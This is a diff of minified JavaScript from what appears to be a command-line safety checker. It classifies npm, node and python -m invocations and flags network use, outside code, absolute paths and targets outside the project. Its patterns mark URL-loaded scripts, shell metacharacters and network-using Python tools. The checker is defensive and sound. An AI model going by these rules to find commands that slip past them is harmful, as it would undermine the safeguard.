+void 0?[h]:[]);return i.map(d=>Kk(e,d,B,c))}default:return[]}})();return{invocation:{launched:l.flatMap(B=>B.launched)},
+problems:l.flatMap(B=>B.problems)}}function Jk(n,e,t,s){const{words:r,problems:i}=n==="cross-env"?Zk(t):{words:t,problems:[]},
 [o]=r,c=o&&e.find(({text:h})=>h===o.text),l=`\`${n}\` starts at the first word that is \`${o?.text}\``,B=o===void 0||c===
 o?[]:[et("flag-value",o.span,{program:n,flag:o.text,fault:l})],d=s({words:r});return{...d,problems:[...i,...B,...d.problems]}}
-function Rk(n){const e=n.findIndex(({text:r})=>!/^\w+=/.test(r)),t=e<0?n:n.slice(0,e),s=t.flatMap(({text:r,span:i})=>{if(_k(
-r))return[];const{written:o,attached:c=""}=La(r);return[et("assignment-refused",i,{name:o,value:c,known:!1})]});return{words:n.
-slice(t.length),problems:s}}function Nk(n,{text:e,span:t},s){const[,r="",i=""]=/^npm(?::|\s+run\s+)(\S*\*\S*)(.*)$/s.exec(
-e)??[],{words:o,problems:c}=qn(r===""?e.replace(/^npm:(?=\S)/,"npm run "):i);if(!(Fa({problems:c})||r!==""&&i.trim()==="")||
-!/^[\w:.@/*-]*$/.test(r))return qB(n,{text:e,span:t});const B=o.map(d=>({...d,span:t}));return s(r===""?{words:B}:KB([{text:r,
-span:t,quoted:!1},...B],"wildcard"))}function Fk(n,{text:e,span:t},s,r){const[,i="",o=""]=/^\s*(\S+)(.*)$/s.exec(e)??[],
-{words:c,problems:l}=qn(o),B=o.trim()===""||Fa({problems:l});if(i===""||!B||/\{!?[*@%\d]/.test(e))return qB(n,{text:e,span:t});
-const d=c.map(g=>({...g,span:t})),h=[...s,{text:i,span:t,quoted:!1},...d];return r(KB(h,/^[\w:.@/-]+$/.test(i)?void 0:"g\
-lob"))}function KB(n,e){return{program:"npm",words:[{text:"run",span:n.at(-1)?.span??{start:0,end:0},quoted:!1},...n],...e&&
-{selects:e}}}function qB(n,e){return{launched:[],problems:[At("outside-code",n,e)]}}const Pk=new Set(`
+function Zk(n){const e=n.findIndex(({text:r})=>!/^\w+=/.test(r)),t=e<0?n:n.slice(0,e),s=t.flatMap(({text:r,span:i})=>{if(Rk(
+r))return[];const{written:o,attached:c=""}=ja(r);return[et("assignment-refused",i,{name:o,value:c,known:!1})]});return{words:n.
+slice(t.length),problems:s}}function Wk(n,{text:e,span:t},s){const[,r="",i=""]=/^npm(?::|\s+run\s+)(\S*\*\S*)(.*)$/s.exec(
+e)??[],{words:o,problems:c}=qn(r===""?e.replace(/^npm:(?=\S)/,"npm run "):i);if(!(Pa({problems:c})||r!==""&&i.trim()==="")||
+!/^[\w:.@/*-]*$/.test(r))return ef(n,{text:e,span:t});const B=o.map(d=>({...d,span:t}));return s(r===""?{words:B}:XB([{text:r,
+span:t,quoted:!1},...B],"wildcard"))}function Kk(n,{text:e,span:t},s,r){const[,i="",o=""]=/^\s*(\S+)(.*)$/s.exec(e)??[],
+{words:c,problems:l}=qn(o),B=o.trim()===""||Pa({problems:l});if(i===""||!B||/\{!?[*@%\d]/.test(e))return ef(n,{text:e,span:t});
+const d=c.map(g=>({...g,span:t})),h=[...s,{text:i,span:t,quoted:!1},...d];return r(XB(h,/^[\w:.@/-]+$/.test(i)?void 0:"g\
+lob"))}function XB(n,e){return{program:"npm",words:[{text:"run",span:n.at(-1)?.span??{start:0,end:0},quoted:!1},...n],...e&&
+{selects:e}}}function ef(n,e){return{launched:[],problems:[At("outside-code",n,e)]}}const qk=new Set(`
   __future__ __hello__ __phello__ _aix_support _collections_abc _compat_pickle _markupbase _osx_support
   _pydecimal _pyio _pyrepl _sitebuiltins _strptime _weakrefset abc aifc annotationlib antigravity argparse array
   ast asynchat asyncio asyncore atexit audioop base64 bdb binascii binhex bisect builtins bz2 cProfile calendar
@@ -4210,7 +4234,7 @@ lob"))}function KB(n,e){return{program:"npm",words:[{text:"run",span:n.at(-1)?.s
   termios textwrap this threading time timeit tkinter token tokenize tomllib trace traceback tracemalloc tty
   turtle turtledemo types typing unicodedata unittest urllib uu uuid venv warnings wave weakref webbrowser
   winreg winsound wsgiref xdrlib xml xmlrpc zipapp zipfile zipimport zlib zoneinfo
-  `.trim().split(/\s+/));function YB(n){return Pk.has(n.replace(/\..*$/s,""))}const Lk=Md({"uses-network":`
+  `.trim().split(/\s+/));function tf(n){return qk.has(n.replace(/\..*$/s,""))}const Yk=Jd({"uses-network":`
     conda pip pre_commit virtualenv easy_install poetry pipx build setuptools cookiecutter copier twine
     semantic_release huggingface_hub
   `,"never-ends":`
@@ -4222,340 +4246,340 @@ lob"))}function KB(n,e){return{program:"npm",words:[{text:"run",span:n.at(-1)?.s
     line_profiler memory_profiler mprof nox papermill pdm pex pipenv ptvsd py_spy pydevd pyinstrument pyperf rye scalene\
 
     torch.distributed.launch torch.distributed.run tox uv viztracer
-  `}),jk=new Set("unittest json.tool tabnanny ast tokenize".split(" ")),Mk=/^(?:-\w|--[\w-]+=)?[/~]/,VB=vn({flags:{text:`\
+  `}),Vk=new Set("unittest json.tool tabnanny ast tokenize".split(" ")),Qk=/^(?:-\w|--[\w-]+=)?[/~]/,nf=kn({flags:{text:`\
 
       append,a branch concurrency= context= debug= include= L,pylib omit= parallel-mode,p save-signal= source=
       source-dirs= source-pkgs= timid
-    `,config:"rcfile=",output:"data-file=",module:"m,module+"},starts:"node"}),Gk=vn({flags:{text:"v,verbose o,option= f\
-,fail-fast"}}),Hk=vn({flags:{text:"q,quiet"}}),zk=new Map([["doctest",Gk],["py_compile",Hk]]);function Uk({text:n,span:e}){
+    `,config:"rcfile=",output:"data-file=",module:"m,module+"},starts:"node"}),Xk=kn({flags:{text:"v,verbose o,option= f\
+,fail-fast"}}),eD=kn({flags:{text:"q,quiet"}}),tD=new Map([["doctest",Xk],["py_compile",eD]]);function nD({text:n,span:e}){
 const t=/^\w+(?:\.\w+)*$/.test(n)?n.split("."):[],s=t.map((i,o)=>t.slice(0,o+1).join("."));return(n.endsWith(".py")?[n]:
-s.flatMap(Ya)).map(i=>({as:"module",path:i,span:e}))}function Jk({program:n,data:e},[t,...s],r){if(t===void 0)return{invocation:{},
+s.flatMap(Va)).map(i=>({as:"module",path:i,span:e}))}function sD({program:n,data:e},[t,...s],r){if(t===void 0)return{invocation:{},
 problems:[et("flag-value",{start:0,end:0},{program:n,flag:"-m",fault:"its value is missing"})]};const{known:i}=r.families,
 o=i.get(t.text);if(o!==void 0&&e.started_programs.includes(t.text)){const{launched:x,problems:D}=r.start({program:o,words:s},
 n);return{invocation:{module:t,launched:x},problems:D}}const c={module:t,operands:[t],passthrough:s},l=t.text==="unittes\
-t"?s.flatMap(Uk):[],B={...c,files:l},d=(x,D=t.text)=>({invocation:B,problems:[At(x,n,{...t,text:D})]}),h=/^[\w.]+$/.test(
-t.text)?Lk.get(t.text.replace(/\._(?:_main__|internal\b.*)$/,"")):"outside-code";if(h!==void 0)return d(h);const g=i.get(
-"python"),C=zk.get(t.text);if(C!==void 0&&g!==void 0){const x=t.text==="py_compile",D={...g,data:{...g.data,extensions:void 0}},
-{flags:P,operands:z}=bs(C,s),L=z.map(Z=>r.start({program:x?g:D,words:[Z]},n)),Q=L.flatMap(Z=>Z.launched),S=x?d("checks-s\
+t"?s.flatMap(nD):[],B={...c,files:l},d=(x,D=t.text)=>({invocation:B,problems:[At(x,n,{...t,text:D})]}),h=/^[\w.]+$/.test(
+t.text)?Yk.get(t.text.replace(/\._(?:_main__|internal\b.*)$/,"")):"outside-code";if(h!==void 0)return d(h);const g=i.get(
+"python"),C=tD.get(t.text);if(C!==void 0&&g!==void 0){const x=t.text==="py_compile",D={...g,data:{...g.data,extensions:void 0}},
+{flags:P,operands:z}=_s(C,s),L=z.map(Z=>r.start({program:x?g:D,words:[Z]},n)),Q=L.flatMap(Z=>Z.launched),S=x?d("checks-s\
 yntax-only","-m py_compile").problems:[];return{invocation:{...B,launched:Q.map(Z=>({...Z,...x&&{parsed:x}}))},problems:[
-...P.flatMap(Z=>Yi(t.text,C,Z).problems),...S,...L.flatMap(Z=>Z.problems)]}}const y=jk.has(t.text);if(!y&&YB(t.text))return d(
+...P.flatMap(Z=>Vi(t.text,C,Z).problems),...S,...L.flatMap(Z=>Z.problems)]}}const y=Vk.has(t.text);if(!y&&tf(t.text))return d(
 "outside-code",`-m ${t.text}`);const[_,...k]=s;if(t.text==="coverage"&&_?.text==="run"&&g!==void 0){const{flags:x,started:D,
-rest:P}=bs(VB,k),z=P?[{...P.flag.word,text:"-m"},...P.words]:D;if(z.length>0){const{launched:L,problems:Q}=r.start({program:g,
-words:z},n),S=x.flatMap(Z=>Yi("coverage",VB,Z).problems);return{invocation:{...B,starts:"module",launched:L},problems:[...S,
-...Q]}}}const E=s.filter(({text:x})=>vs(x)||y&&Mk.test(x));return{invocation:y?B:{...B,starts:"module"},problems:E.map(x=>At(
-"outside-code",t.text,x))}}function Zk(n,e,t,s){const{program:r}=s.family,i={operands:[e],passthrough:t},o=()=>({invocation:i,
-problems:[At("outside-code",r,e)]});switch(n){case"file":return Qa(e,t,s);case"package":{const c=Va("import",e.text),B=c===
+rest:P}=_s(nf,k),z=P?[{...P.flag.word,text:"-m"},...P.words]:D;if(z.length>0){const{launched:L,problems:Q}=r.start({program:g,
+words:z},n),S=x.flatMap(Z=>Vi("coverage",nf,Z).problems);return{invocation:{...B,starts:"module",launched:L},problems:[...S,
+...Q]}}}const E=s.filter(({text:x})=>ks(x)||y&&Qk.test(x));return{invocation:y?B:{...B,starts:"module"},problems:E.map(x=>At(
+"outside-code",t.text,x))}}function rD(n,e,t,s){const{program:r}=s.family,i={operands:[e],passthrough:t},o=()=>({invocation:i,
+problems:[At("outside-code",r,e)]});switch(n){case"file":return Xa(e,t,s);case"package":{const c=Qa("import",e.text),B=c===
 void 0&&e.text.endsWith(".go")?[{as:"tests",path:e.text,span:e.span}]:[];return{invocation:{...i,files:B},problems:c?[At(
-c,r,e)]:[]}}case"program":return qk(e,t,s);case"script":case"own-script":{const c=Wk.test(e.text)?o().problems:[];return{
-invocation:{...i,subcommand:"run"},problems:[...c,...XB(t,s.family)]}}case"tool":return ef("exec",e,t,s);case"script-or-\
-tool":case"script-tool-or-file":{const c=n==="script-tool-or-file";if(Kk.test(e.text)||c&&QB(e.text))return c?Qa(e,t,s):
-o();const l=ef("script-or-tool",e,t,s);return{...l,problems:[...l.problems,...XB(t,s.family)]}}default:return o()}}const Wk=/^\/|\*/,
-Kk=/^-$|^\.{0,2}[\\/]|^~|[\\/].*\.\w+$|\.[cm]?[jt]sx?$/;function QB(n){return/[\\/]/.test(n)&&!/^@[\w.-]+\/[\w.-]+$/.test(
-n)}function XB(n,{program:e,use:t}){return n.filter(({text:r})=>{const i=/^--([\w-]+)/.exec(r)?.[1];return i!==void 0&&t.
-flags.get(qs(i))?.kind==="outside-code"}).map(r=>At("outside-code",e,r))}function Qa(n,e,t){const{family:s,parsing:r}=t,
+c,r,e)]:[]}}case"program":return aD(e,t,s);case"script":case"own-script":{const c=iD.test(e.text)?o().problems:[];return{
+invocation:{...i,subcommand:"run"},problems:[...c,...rf(t,s.family)]}}case"tool":return of("exec",e,t,s);case"script-or-\
+tool":case"script-tool-or-file":{const c=n==="script-tool-or-file";if(oD.test(e.text)||c&&sf(e.text))return c?Xa(e,t,s):
+o();const l=of("script-or-tool",e,t,s);return{...l,problems:[...l.problems,...rf(t,s.family)]}}default:return o()}}const iD=/^\/|\*/,
+oD=/^-$|^\.{0,2}[\\/]|^~|[\\/].*\.\w+$|\.[cm]?[jt]sx?$/;function sf(n){return/[\\/]/.test(n)&&!/^@[\w.-]+\/[\w.-]+$/.test(
+n)}function rf(n,{program:e,use:t}){return n.filter(({text:r})=>{const i=/^--([\w-]+)/.exec(r)?.[1];return i!==void 0&&t.
+flags.get(qs(i))?.kind==="outside-code"}).map(r=>At("outside-code",e,r))}function Xa(n,e,t){const{family:s,parsing:r}=t,
 {program:i}=s,{text:o,span:c}=n,l={operands:[n],passthrough:e,starts:"file"};if(o==="-"||o===""||o.startsWith("/dev/"))return{
 invocation:l,problems:[et("reads-stdin",c,{program:i,flag:o})]};if(/^(?:npm|jsr|https?|data|git|file|[a-z+]+:\/\/):?/.test(
 o)&&/:/.test(o))return{invocation:l,problems:[At("uses-network",i,n)]};const[,d=""]=/^(?:\.\/)?vendor\/(?:bin|[\w-]+\/[\w-]+)\/([\w-]+)$/.
 exec(o)??[],h=s.data.dependency_tools.includes(d)?r.families.known.get(d):void 0;if(h!==void 0){const{launched:g,problems:C}=r.
-start({program:h,words:e},i);return{invocation:{launched:g},problems:C}}return{invocation:l,problems:Xa(s,o,c)}}function Xa({
+start({program:h,words:e},i);return{invocation:{launched:g},problems:C}}return{invocation:l,problems:ec(s,o,c)}}function ec({
 program:n,data:{extensions:e}},t,s){const[,r]=/\.([^./\\]*)$/.exec(t.replace(/^.*\//s,""))??[];return e===void 0||r===void 0||
-e.split(" ").includes(r)?[]:[et("target-extension",s,{program:n,path:t,extension:r})]}function qk(n,e,t){const{family:s,
+e.split(" ").includes(r)?[]:[et("target-extension",s,{program:n,path:t,extension:r})]}function aD(n,e,t){const{family:s,
 parsing:r}=t,{text:i}=n;if(/:\/\//.test(i))return{invocation:{},problems:[At("uses-network",s.program,n)]};if(i==="-"||/\.\w+$/.
-test(i))return Qa(n,e,t);const o=r.families.known.get(i);if(o===void 0||!s.data.started_programs.includes(i))return{invocation:{},
+test(i))return Xa(n,e,t);const o=r.families.known.get(i);if(o===void 0||!s.data.started_programs.includes(i))return{invocation:{},
 problems:[At("outside-code",s.program,n)]};const{launched:c,problems:l}=r.start({program:o,words:e},s.program);return{invocation:{
-launched:c},problems:l}}function ef(n,e,t,{family:s,parsing:r}){const{text:i}=e,o=[At("outside-code",s.program,e)];if(n===
-"exec"&&QB(i))return{invocation:{},problems:o};const c=/[;&|<>$`'"(){}\\*?]/.test(i)||pB(i);if(!Tr(i)&&(n==="exec"||c))return{
-invocation:{},problems:o};const l={subcommand:n,operands:[e],passthrough:t},B=_s(i)?i:r.families.allowed.get(i);if(B!==void 0){
-const{launched:C,problems:y}=r.start({program:B,words:t},s.program);return{invocation:{...l,launched:C},problems:y}}if(Hi(
+launched:c},problems:l}}function of(n,e,t,{family:s,parsing:r}){const{text:i}=e,o=[At("outside-code",s.program,e)];if(n===
+"exec"&&sf(i))return{invocation:{},problems:o};const c=/[;&|<>$`'"(){}\\*?]/.test(i)||wB(i);if(!Tr(i)&&(n==="exec"||c))return{
+invocation:{},problems:o};const l={subcommand:n,operands:[e],passthrough:t},B=Es(i)?i:r.families.allowed.get(i);if(B!==void 0){
+const{launched:C,problems:y}=r.start({program:B,words:t},s.program);return{invocation:{...l,launched:C},problems:y}}if(zi(
 i)||n==="exec"&&Lt(i)!==void 0)return{invocation:l,problems:o};const{problems:d,...h}=r.tool(e,t),g=n==="exec"||xr(r.families.
-tools,i);return{invocation:{...l,...h},problems:g?d:[]}}function Yk(n,e,t){const{program:s,use:r}=n,{invocation:i,named:o,
-problems:c}=Vi({program:s,use:r,words:e,family:n,parsing:t}),B=[...o.files.filter(({as:h})=>h!=="place"),...i.files??[]];
-return{invocation:{program:s,family:n,...{flags:[],operands:[],passthrough:[]},...i,files:B},problems:c}}function Vi(n){
+tools,i);return{invocation:{...l,...h},problems:g?d:[]}}function cD(n,e,t){const{program:s,use:r}=n,{invocation:i,named:o,
+problems:c}=Qi({program:s,use:r,words:e,family:n,parsing:t}),B=[...o.files.filter(({as:h})=>h!=="place"),...i.files??[]];
+return{invocation:{program:s,family:n,...{flags:[],operands:[],passthrough:[]},...i,files:B},problems:c}}function Qi(n){
 const{program:e,use:t}=n,{behind:s,data:r}=t,i=s?n.words.findIndex(({text:_})=>_==="--"):-1,o=i<0?n.words:n.words.slice(
-0,i),c=bs(t,o),l=c.rest?[...c.flags,c.rest.flag]:c.flags,B=i<0||!s?[]:bs(s,n.words.slice(i+1)).flags,d=[...l.map(_=>Yi(e,
-t,_)),...B.map(_=>Yi(e,s??t,_))],h=(t.stops?c.started:c.operands).slice(r.skips??0),{invocation:g,named:C,problems:y}=Qk(
+0,i),c=_s(t,o),l=c.rest?[...c.flags,c.rest.flag]:c.flags,B=i<0||!s?[]:_s(s,n.words.slice(i+1)).flags,d=[...l.map(_=>Vi(e,
+t,_)),...B.map(_=>Vi(e,s??t,_))],h=(t.stops?c.started:c.operands).slice(r.skips??0),{invocation:g,named:C,problems:y}=lD(
 n,{flags:[...l,...B],operands:h,...c.rest&&{rest:{module:c.rest.flag.flag?.kind==="module",words:c.rest.words}}});return{
-invocation:{...g,...r.any_package&&{anyPackage:!0},flags:[...l.map(Vk),...g.flags??[]]},named:{files:[...d.flatMap(({files:_=[]})=>_),
+invocation:{...g,...r.any_package&&{anyPackage:!0},flags:[...l.map(uD),...g.flags??[]]},named:{files:[...d.flatMap(({files:_=[]})=>_),
 ...C?.files??[]],roots:d.flatMap(({root:_=[]})=>_),nodeFlags:d.flatMap(({nodeFlags:_=[]})=>_)},problems:[...d.flatMap(_=>_.
-problems),...y]}}function Vk({word:n,written:e,value:t}){return{name:e,written:e,span:n.span,...t!==void 0&&{value:t}}}function Qk(n,e){
-const{program:t,use:s,path:r,family:i,parsing:o}=n,{flags:c,operands:l,rest:B}=e,[d,...h]=l,g=kk(t,s,l);if(g.length>0&&s.
+problems),...y]}}function uD({word:n,written:e,value:t}){return{name:e,written:e,span:n.span,...t!==void 0&&{value:t}}}function lD(n,e){
+const{program:t,use:s,path:r,family:i,parsing:o}=n,{flags:c,operands:l,rest:B}=e,[d,...h]=l,g=Pk(t,s,l);if(g.length>0&&s.
 stops)return{invocation:{},problems:g};const C=d&&s.subcommands.get(d.text),y=C?.data.starts==="own-script"?"own-script":
-s.data.starts;if(d&&C&&y!=="own-script"){const x=r===void 0?d.text:`${r} ${d.text}`;return Vi({...n,use:C,path:x,words:h})}
+s.data.starts;if(d&&C&&y!=="own-script"){const x=r===void 0?d.text:`${r} ${d.text}`;return Qi({...n,use:C,path:x,words:h})}
 const _={...r!==void 0&&{subcommand:r},...c.some(({flag:x})=>x?.kind==="checks-syntax-only")&&{parsed:!0}},k=(()=>{if(B&&
-i)return B.module?Jk(i,B.words,o):{invocation:{passthrough:B.words},problems:tD(t,B.words)};if(y!==void 0&&i===void 0)return Ik(
-y,n,e);if(d===void 0)return{invocation:{},problems:Xk(n,c)};if(y!==void 0&&i)return Zk(y,d,h,{family:i,parsing:o});if(s.
+i)return B.module?sD(i,B.words,o):{invocation:{passthrough:B.words},problems:fD(t,B.words)};if(y!==void 0&&i===void 0)return Uk(
+y,n,e);if(d===void 0)return{invocation:{},problems:dD(n,c)};if(y!==void 0&&i)return rD(y,d,h,{family:i,parsing:o});if(s.
 subcommands.size>0){const P=et("unknown-subcommand",d.span,{program:t,subcommand:d.text});return{invocation:{operands:[d],
-passthrough:h},problems:[P]}}const x=l.filter(({span:P})=>g.every(z=>z.span!==P)),D=Ok(s,x);return{invocation:{operands:l},
-problems:Dk(t,s,l),named:{files:D}}})(),E=[...g,...eD(n,c),...k.problems];return{...k,invocation:{..._,...k.invocation},
-problems:E}}function tf(n){return n.some(({flag:e,off:t})=>e?.kind==="only-prints"&&!t)}function Xk({program:n,use:e},t){
-const s=tf(t)?void 0:e.data.alone,r={text:"",span:{start:0,end:n.length}};return s?[At(s,n,r)]:[]}function eD({program:n,
-use:e,path:t,words:s},r){if(tf(r))return[];const i=new Set(r.flatMap(({flag:c,off:l})=>c&&!l?c.name:[])),o=s[0]?.span??{
+passthrough:h},problems:[P]}}const x=l.filter(({span:P})=>g.every(z=>z.span!==P)),D=Mk(s,x);return{invocation:{operands:l},
+problems:Lk(t,s,l),named:{files:D}}})(),E=[...g,...BD(n,c),...k.problems];return{...k,invocation:{..._,...k.invocation},
+problems:E}}function af(n){return n.some(({flag:e,off:t})=>e?.kind==="only-prints"&&!t)}function dD({program:n,use:e},t){
+const s=af(t)?void 0:e.data.alone,r={text:"",span:{start:0,end:n.length}};return s?[At(s,n,r)]:[]}function BD({program:n,
+use:e,path:t,words:s},r){if(af(r))return[];const i=new Set(r.flatMap(({flag:c,off:l})=>c&&!l?c.name:[])),o=s[0]?.span??{
 start:0,end:0};return Object.entries(e.data.unless??{}).flatMap(([c,l])=>l.split(" ").some(B=>i.has(B))?[]:[At(c,n,{text:t??
-"",span:o})])}function tD(n,e){return e.filter(({text:s})=>/^--?test\./.test(s)).map(s=>At("skips-tests",n,s))}function nD(n,e,t){
+"",span:o})])}function fD(n,e){return e.filter(({text:s})=>/^--?test\./.test(s)).map(s=>At("skips-tests",n,s))}function hD(n,e,t){
 const{text:s}=n,{tools:r}=t.families,i=r.refusal(s);if(i!==void 0)return{problems:[At(i,s,n)]};const o=r.known(s),c=o??r.
-unknown(s),{invocation:l,named:B,problems:d}=Vi({program:s,use:c,words:e,parsing:t}),{launched:h}=l;return{tool:B,...h&&
-{launched:h},problems:o?d:[...d,...nf(n,e,c)]}}function sD(n,e,t,s=Ma){const{problems:r}=Vi({program:n.text,use:t,words:e,
-parsing:s});return[...r,...nf(n,e,t)]}function nf({text:n},e,t){const{flags:s,operands:r}=bs(t,e),i=e[e.findIndex(({text:B})=>B===
-"--")+1],o=[...new Set([r[0],i])].filter(B=>B!==void 0&&hB(B.text)),c=s.filter(({written:B,flag:d,value:h=""})=>/^-[ex]$/.
-test(B)&&/\s/.test(h)||d?.kind!=="config"&&RE(h)),l=r.filter(({text:B})=>pB(B));return[...o,...c.map(({word:B})=>B),...l].
-flatMap(B=>B===void 0?[]:[At("outside-code",n,B)])}const rD=5,iD={node:zB,npm:IB,npx:bv};function ec(n,e,t=Or){return tc(
-n,e,t,0)}function tc(n,e,t,s){const r=(h,g)=>oD(h,g,t,s+1),i={families:t,start:r,tool:(h,g)=>nD(h,g,i)};if(typeof n!="st\
-ring")return Yk(n,e,i);const{invocation:o,problems:c}=iD[n](e,i),[l]=n==="node"&&!qi(o)?o.operands:[];if(l===void 0)return{
-invocation:o,problems:c};const B=uD(l.text,t.tools).map(h=>{const g=["--",h].map(C=>({...l,text:C}));return r({program:"\
+unknown(s),{invocation:l,named:B,problems:d}=Qi({program:s,use:c,words:e,parsing:t}),{launched:h}=l;return{tool:B,...h&&
+{launched:h},problems:o?d:[...d,...cf(n,e,c)]}}function pD(n,e,t,s=Ga){const{problems:r}=Qi({program:n.text,use:t,words:e,
+parsing:s});return[...r,...cf(n,e,t)]}function cf({text:n},e,t){const{flags:s,operands:r}=_s(t,e),i=e[e.findIndex(({text:B})=>B===
+"--")+1],o=[...new Set([r[0],i])].filter(B=>B!==void 0&&yB(B.text)),c=s.filter(({written:B,flag:d,value:h=""})=>/^-[ex]$/.
+test(B)&&/\s/.test(h)||d?.kind!=="config"&&ZE(h)),l=r.filter(({text:B})=>wB(B));return[...o,...c.map(({word:B})=>B),...l].
+flatMap(B=>B===void 0?[]:[At("outside-code",n,B)])}const mD=5,gD={node:KB,npm:PB,npx:$v};function tc(n,e,t=Or){return nc(
+n,e,t,0)}function nc(n,e,t,s){const r=(h,g)=>CD(h,g,t,s+1),i={families:t,start:r,tool:(h,g)=>hD(h,g,i)};if(typeof n!="st\
+ring")return cD(n,e,i);const{invocation:o,problems:c}=gD[n](e,i),[l]=n==="node"&&!Yi(o)?o.operands:[];if(l===void 0)return{
+invocation:o,problems:c};const B=bD(l.text,t.tools).map(h=>{const g=["--",h].map(C=>({...l,text:C}));return r({program:"\
 npx",words:[...g,...o.passthrough],starts:"file"},n)}),d=B.flatMap(h=>h.launched);return{invocation:d.length>0?{...o,launched:d}:
-o,problems:[...c,...B.flatMap(h=>h.problems)]}}function Qi({launched:n=[]}){return n.flatMap(e=>[e,...Qi(e)])}function oD({
-program:n,words:e,...t},s,r,i){const[o={text:"",span:{start:0,end:0}},...c]=e,l=i===rD?"outside-code":n?void 0:aD(o.text,
-r.tools);if(l)return{launched:[],problems:[At(l,s,o)]};const B=n??(_s(o.text)?o.text:void 0),{invocation:d,problems:h}=B?
-tc(B,n?e:c,r,i):tc("npx",e,r,i);return{launched:[{...d,...t}],problems:h}}function aD(n,e){return n.startsWith("-")?"unk\
-nown-flag":Lt(n)!==void 0&&!_s(n)&&!xr(e,n)?"outside-code":void 0}const cD=/^(?:.*\/)?node_modules\/((?:@[^/]+\/)?[^/]+)(?:\/(?:.*\/)?([^/]+))?$/s;
-function uD(n,e){const t=He.posix.normalize(n.replaceAll("\\","/")).replace(/\/$/,"");if(/(?:^|\/)\.yarn\/releases\//.test(
-t))return["yarn"];const[,s,r=""]=cD.exec(t)??[];if(s===void 0)return[];if(s===".bin")return[r];const o=[...new Set([r.replace(
-/\.[cm]?[jt]s$/,""),s])].filter(c=>xr(e,c));return o.length>0?o:[s]}const lD=new Set(["--env-file","--env-file-if-exists",
-"--prefix"]);function sf(n,e){const{passthrough:t}=n,s=[],r=(o,c)=>{const l=Yn(o,c,e);l!==void 0&&s.push(l)};for(const o of[
-n,...Qi(n)]){for(const{name:l,value:B,span:d}of o.flags)B!==void 0&&(lD.has(l)&&r(B,d),l==="--workspace"&&/^\.{1,2}(?:[\\/]|$)|^[\\/]/.
-test(B)&&r(B,d));for(const{as:l,path:B,span:d}of o.subcommand==="exec"&&o.tool?.files||[]){const h=l==="tests"?nc(B,d,e):
-void 0;h!==void 0&&s.push(h)}if(o.program!=="node"&&o.starts!=="file")continue;const c=o.program==="node"&&qi(o)?nc:Yn;for(const{
-text:l,span:B}of o.operands){const d=l===""||l==="-"?void 0:c(l,B,e);d!==void 0&&s.push(d)}}const i=t.find(({text:o})=>dD.
-test(o));return i!==void 0&&s.push(et("absolute-path",i.span,{path:i.text})),s}const dD=/^(?:-[^=]*=)?(?:\/(?:home|Users|root|tmp|var|opt|mnt|Volumes|private)\/|[A-Za-z]:[\\/](?!\/))/;
-function nc(n,e,t){if(!sc(n))return Yn(n,e,t);const s=Rr(n);if(s===void 0)return et("glob-unclear",e,{pattern:n,reason:"\
+o,problems:[...c,...B.flatMap(h=>h.problems)]}}function Xi({launched:n=[]}){return n.flatMap(e=>[e,...Xi(e)])}function CD({
+program:n,words:e,...t},s,r,i){const[o={text:"",span:{start:0,end:0}},...c]=e,l=i===mD?"outside-code":n?void 0:yD(o.text,
+r.tools);if(l)return{launched:[],problems:[At(l,s,o)]};const B=n??(Es(o.text)?o.text:void 0),{invocation:d,problems:h}=B?
+nc(B,n?e:c,r,i):nc("npx",e,r,i);return{launched:[{...d,...t}],problems:h}}function yD(n,e){return n.startsWith("-")?"unk\
+nown-flag":Lt(n)!==void 0&&!Es(n)&&!xr(e,n)?"outside-code":void 0}const wD=/^(?:.*\/)?node_modules\/((?:@[^/]+\/)?[^/]+)(?:\/(?:.*\/)?([^/]+))?$/s;
+function bD(n,e){const t=He.posix.normalize(n.replaceAll("\\","/")).replace(/\/$/,"");if(/(?:^|\/)\.yarn\/releases\//.test(
+t))return["yarn"];const[,s,r=""]=wD.exec(t)??[];if(s===void 0)return[];if(s===".bin")return[r];const o=[...new Set([r.replace(
+/\.[cm]?[jt]s$/,""),s])].filter(c=>xr(e,c));return o.length>0?o:[s]}const _D=new Set(["--env-file","--env-file-if-exists",
+"--prefix"]);function uf(n,e){const{passthrough:t}=n,s=[],r=(o,c)=>{const l=Yn(o,c,e);l!==void 0&&s.push(l)};for(const o of[
+n,...Xi(n)]){for(const{name:l,value:B,span:d}of o.flags)B!==void 0&&(_D.has(l)&&r(B,d),l==="--workspace"&&/^\.{1,2}(?:[\\/]|$)|^[\\/]/.
+test(B)&&r(B,d));for(const{as:l,path:B,span:d}of o.subcommand==="exec"&&o.tool?.files||[]){const h=l==="tests"?sc(B,d,e):
+void 0;h!==void 0&&s.push(h)}if(o.program!=="node"&&o.starts!=="file")continue;const c=o.program==="node"&&Yi(o)?sc:Yn;for(const{
+text:l,span:B}of o.operands){const d=l===""||l==="-"?void 0:c(l,B,e);d!==void 0&&s.push(d)}}const i=t.find(({text:o})=>ED.
+test(o));return i!==void 0&&s.push(et("absolute-path",i.span,{path:i.text})),s}const ED=/^(?:-[^=]*=)?(?:\/(?:home|Users|root|tmp|var|opt|mnt|Volumes|private)\/|[A-Za-z]:[\\/](?!\/))/;
+function sc(n,e,t){if(!rc(n))return Yn(n,e,t);const s=Rr(n);if(s===void 0)return et("glob-unclear",e,{pattern:n,reason:"\
 too_many"});for(const r of[n,...s]){const i=Yn(r,e,t);if(i!==void 0)return{...i,args:{...i.args,path:n}}}}function Yn(n,e,t){
 if(/^[A-Za-z][A-Za-z0-9+.-]+:/.test(n)&&/^(?:data|node|file|[a-z]+:\/)/i.test(n))return et("target-outside",e,{path:n,reason:"\
 address"});const s=/^(?:[\\/]|[A-Za-z]:)/.test(n),r=s?void 0:Bt(t===""?n:`${t}/${n}`);if(r===void 0)return et("target-ou\
 tside",e,{path:n,reason:s?"absolute":"above"});if(sn(r,".git",{ignoreCase:!0}))return et("target-outside",e,{path:n,reason:"\
-git"})}function rf(n){return n.length>200||n.split("**").length>2?!1:n==="."?!0:n.split("/").every(e=>/^(?!\.{1,2}$)[\w@.*-]+$/.
-test(e))}function Xi(n,e,t={}){return eo(n.split("/"),e.split("/"),t)}function eo(n,e,t){const[s,...r]=n,[i,...o]=e;return s===
-void 0?t.partial||e.every(c=>c==="**"):i===void 0?!1:i!=="**"?of(s,i,t)&&eo(r,o,t):eo(n,o,t)?!0:of(s,"*",t)&&eo(r,e,t)}function of(n,e,{
-dot:t=!1}){return n.startsWith(".")&&!e.startsWith(".")&&!t?!1:BE(n,e)}function sc(n){return/[*?[{]/.test(n)}function BD(n){
